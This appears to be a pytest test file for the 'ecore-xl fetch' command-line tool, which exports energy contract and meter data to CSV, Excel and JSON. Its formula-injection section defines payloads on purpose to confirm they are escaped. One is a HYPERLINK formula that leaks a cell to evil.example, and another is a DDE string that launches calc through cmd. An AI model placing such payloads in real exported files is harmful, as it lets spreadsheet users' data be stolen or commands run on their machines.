"""``ecore-xl fetch`` through CliRunner against the mock; files read back with pandas/openpyxl."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner, Result

from ecore_xl.cli import cli
from ecore_xl.data import reset_service
from ecore_xl.mock import MockServer
from tests.conftest import soffice_missing
from tests.data_fixtures import meter_ids, requests_made


@pytest.fixture
def run(srv: MockServer) -> Iterator[object]:
    """Invoke ``ecore-xl`` with the mock's settings in the environment."""
    runner = CliRunner()
    srv.reset_stats()

    def invoke(*args: str, env: dict[str, str] | None = None) -> Result:
        reset_service()  # every invocation is a fresh process as far as the cache goes
        return runner.invoke(cli, ["fetch", *args], env={**srv.env(), **(env or {})})

    yield invoke
    reset_service()


def volume_args(srv: MockServer) -> list[str]:
    return [
        "volumes",
        "--filter",
        f"meterId={meter_ids(srv)[0]}",
        "--from",
        "2026-03-01",
        "--to",
        "2026-04-01",
    ]


def test_head_printout(srv: MockServer, run) -> None:  # type: ignore[no-untyped-def]
    result = run(*volume_args(srv))
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].split()[:4] == ["meterId", "start", "startLocal", "value"]
    assert len(lines) == 1 + 10 + 1
    assert lines[-1] == "first 10 of 743 rows x 7 columns"  # March: 31 days x 24 hours - 1
    assert lines[1].split()[0] == meter_ids(srv)[0]


def test_csv(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "v.csv"
    result = run(*volume_args(srv), "--granularity", "quarterhour", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "Wrote 2,972 rows" in result.output
    df = pd.read_csv(out)
    assert len(df) == 2972  # 31 x 96 - 4
    assert list(df.columns) == [
        "meterId", "start", "startLocal", "value", "unit", "type", "quality",
    ]  # fmt: skip
    assert df["startLocal"].iloc[0] == "2026-03-01 00:00:00"
    assert pd.Timestamp(df["start"].iloc[0]) == pd.Timestamp("2026-02-28T23:00:00Z")
    assert df["value"].sum() > 0
    assert [p.name for p in tmp_path.iterdir()] == ["v.csv"]


def test_json(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "contracts.json"
    result = run("contracts", "--filter", "commodity=power", "--out", str(out))
    assert result.exit_code == 0, result.output
    records = json.loads(out.read_text(encoding="utf-8"))
    expected = [c for c in srv.portfolio.contracts if c["commodity"] == "power"]
    assert [r["id"] for r in records] == [c["id"] for c in expected]
    # a date field sent as a UTC instant is shown as the local date
    local = pd.Timestamp(expected[0]["deliveryStart"]).tz_convert("Europe/Berlin")
    assert records[0]["deliveryStart"] == local.strftime("%Y-%m-%dT%H:%M:%S")


def test_xlsx_is_a_named_table(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "v.xlsx"
    result = run(*volume_args(srv), "--out", str(out))
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(out)
    ws = wb["Volumes"]
    assert list(ws.tables) == ["tblVolumes"]
    assert ws.tables["tblVolumes"].ref == "A1:G744"
    header = [c.value for c in ws[1]]
    assert header[:4] == ["meterId", "start", "startLocal", "value"]
    assert ws["C2"].value.isoformat() == "2026-03-01T00:00:00"
    assert ws["C2"].number_format == "yyyy-mm-dd hh:mm"
    back = pd.read_excel(out, sheet_name="Volumes")
    assert len(back) == 743


def test_xlsx_wide(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "wide.xlsx"
    meters = ",".join(meter_ids(srv))
    result = run(
        "volumes", "--filter", f"meterId={meters}", "--from", "2026-10-01", "--to", "2026-11-01",
        "--wide", "--out", str(out),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    back = pd.read_excel(out)
    assert list(back.columns[-3:]) == meter_ids(srv)
    assert len(back) == 745


def test_invalid_filter_exits_2_without_a_request(srv: MockServer, run) -> None:  # type: ignore[no-untyped-def]
    result = run("volumes", "--filter", "meterId=X", "--from", "2026-04-01", "--to", "2026-03-01")
    assert result.exit_code == 2
    assert "from (2026-04-01) must be before to (2026-03-01)" in result.output
    result = run("volumes", "--filter", "meterId=X", "--granularity", "weekly")
    assert result.exit_code == 2
    result = run("contracts", "--filter", "nonsense")
    assert result.exit_code == 2
    assert "key=value" in result.output
    result = run("contracts", "--out", "x.pdf")
    assert result.exit_code == 2
    assert ".csv, .xlsx, .json, .parquet" in result.output
    assert requests_made(srv) == 0


def test_snapshot_then_offline(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    online = tmp_path / "online.csv"
    offline = tmp_path / "offline.csv"
    snaps = tmp_path / "snaps"
    assert run(*volume_args(srv), "--snapshot", str(snaps), "--out", str(online)).exit_code == 0
    srv.reset_stats()
    result = run(*volume_args(srv), "--snapshot", str(snaps), "--offline", "--out", str(offline))
    assert result.exit_code == 0, result.output
    assert online.read_bytes() == offline.read_bytes()
    missing = run("meters", "--snapshot", str(snaps), "--offline")
    assert missing.exit_code == 2  # a local problem: no snapshot of meters
    assert "ecore-xl fetch meters --snapshot" in missing.output
    assert requests_made(srv) == 0


def test_failed_write_keeps_the_old_file(srv: MockServer, run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "c.csv"
    out.write_text("old\n")
    result = run("volumes", "--filter", "meterId=NO-SUCH", "--from", "2026-01-01",
                 "--to", "2026-02-01", "--out", str(out))  # fmt: skip
    assert result.exit_code == 1
    assert out.read_text() == "old\n"


def test_progress_bar_only_for_many_requests(capsys: pytest.CaptureFixture[str]) -> None:
    from ecore_xl.cli.fetch_cmd import _Progress

    few = _Progress("Fetching volumes")
    few._enabled = True  # as on a terminal
    few(0, 2)
    few(2, 2)
    few.close()
    assert capsys.readouterr().err == ""
    many = _Progress("Fetching volumes")
    many._enabled = True
    for done in range(13):
        many(done, 12)
    many.close()
    assert "Fetching volumes" in capsys.readouterr().err


# ---- API text that looks like a formula (issue 12) ------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_contracts(srv: MockServer) -> Iterator[None]:
    """Every contract's name is a formula; an unknown field with a formula name, a DDE value."""
    srv.extra_fields["/contracts"] = {"name": HOSTILE_NAME, HOSTILE_FIELD: "-2+3", "n": -2}
    yield
    srv.extra_fields.clear()


def _csv_rows(path: Path) -> list[list[str]]:
    import csv

    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_text_that_looks_like_a_formula_is_prefixed(  # type: ignore[no-untyped-def]
    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
) -> None:
    out = tmp_path / "c.csv"
    result = run("contracts", "--out", str(out))
    assert result.exit_code == 0, result.output
    header, *rows = _csv_rows(out)
    assert "'" + HOSTILE_FIELD in header  # a column name from the API too
    name = header.index("name")
    assert {r[name] for r in rows} == {"'" + HOSTILE_NAME}
    assert {r[header.index("'" + HOSTILE_FIELD)] for r in rows} == {"'-2+3"}
    assert {r[header.index("n")] for r in rows} == {"-2.0"}  # a number is a number
    # no field of the file starts a formula
    cells = [c for row in [header, *rows] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2+")]


def test_no_escape_writes_text_as_sent(  # type: ignore[no-untyped-def]
    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
) -> None:
    flag, setting = tmp_path / "flag.csv", tmp_path / "setting.csv"
    assert run("contracts", "--no-escape", "--out", str(flag)).exit_code == 0
    off = {"ECORE_ESCAPE_FORMULAS": "0"}
    assert run("contracts", "--out", str(setting), env=off).exit_code == 0
    for path in (flag, setting):
        header, *rows = _csv_rows(path)
        assert HOSTILE_FIELD in header
        assert rows[0][header.index("name")] == HOSTILE_NAME


@pytest.mark.skipif(soffice_missing(), reason="LibreOffice is not installed")
def test_libreoffice_imports_the_csv_without_a_formula(  # type: ignore[no-untyped-def]
    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
) -> None:
    """What the issue saw: LibreOffice's default CSV import ran ``=HYPERLINK``; not any more.
    The unescaped file is the control: there LibreOffice does make a formula of it."""
    import zipfile

    from ecore_xl.report.soffice import convert

    def formulas_after_import(*flags: str) -> tuple[int, str]:
        folder = tmp_path / ("raw" if flags else "escaped")
        folder.mkdir()
        out = folder / "c.csv"
        assert run("contracts", *flags, "--out", str(out)).exit_code == 0
        book = convert(out, "xlsx", folder / "lo", timeout=180)
        with zipfile.ZipFile(book) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
            strings = (
                z.read("xl/sharedStrings.xml").decode()
                if "xl/sharedStrings.xml" in (z.namelist())
                else ""
            )
        return sheet.count("<f>") + sheet.count("<f "), strings

    escaped, strings = formulas_after_import()
    assert escaped == 0
    assert "HYPERLINK(&quot;http://evil.example" in strings  # kept, as text
    raw, _ = formulas_after_import("--no-escape")
    assert raw > 0


# ---- an id holding a comma stays one id (issue 12) ------------------------------------------


@pytest.mark.parametrize(
    "filters",
    [
        ["--filter", 'meterId="A,1",B'],
        ["--filter", 'meterId="A,1"', "--filter", "meterId=B"],
    ],
)
def test_a_quoted_id_with_a_comma_is_asked_for_as_one_id(filters: list[str]) -> None:
    from urllib.parse import parse_qs, urlsplit

    from tests.listener_fixtures import TinyHTTP, api_env, empty_pages, token_then

    with TinyHTTP(token_then(empty_pages())) as api:
        reset_service()
        result = CliRunner().invoke(
            cli,
            ["fetch", "volumes", *filters, "--from", "2026-03-01", "--to", "2026-03-02"],
            env=api_env(api.url),
        )
        reset_service()
    assert result.exit_code == 0, result.output
    asked = [parse_qs(urlsplit(path).query)["meterId"] for m, path, _ in api.requests if m == "GET"]
    assert sorted(asked) == [["A,1"], ["B"]]  # two requests, in parallel
